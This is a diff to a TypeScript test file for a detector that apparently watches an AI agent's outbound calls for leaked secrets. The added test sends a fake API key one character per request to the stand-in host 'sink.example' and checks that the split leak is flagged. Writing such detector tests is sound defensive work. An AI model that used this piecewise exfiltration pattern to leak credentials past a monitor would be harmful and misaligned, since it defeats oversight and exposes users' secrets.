@@ -49,6 +49,16 @@ describe('the rolling window of outbound calls', () => {
     for (let i = 0; i < SECRET.length - 1; i++)
       assert.deepEqual(send('http', { url: `https://sink.example/c?i=${i}&c=${encodeURIComponent(SECRET[i]!)}` }), [], `piece ${i}`);
     assert.deepEqual(send('http', { url: `https://sink.example/c?i=99&c=${SECRET.at(-1)!}` }), ['split']);
+    // Repeated characters are pieces too: the second 'a' of 'aa' is not an unchanged field to skip.
+    const doubled = 'sk-live-77ff3cc9aa1e5bb2d';
+    const held = new SecretValueIndex([{ name: 'D', value: doubled }]);
+    const w = new OutboundWindow();
+    const one = (c: string, i: number) => {
+      const params = { url: `https://sink.example/c?c=${c}` };
+      return w.check(held, 'thief', 'http', params, outboundStrings('http', params), i).map((h) => h.encoding);
+    };
+    for (let i = 0; i < doubled.length - 1; i++) assert.deepEqual(one(doubled[i]!, i), [], `piece ${i}`);
+    assert.deepEqual(one(doubled.at(-1)!, 99), ['split']);
   });
 
   it('half per request in a JSON body, a form body, a raw body, a path segment, exec arguments, file writes and model messages', () => {
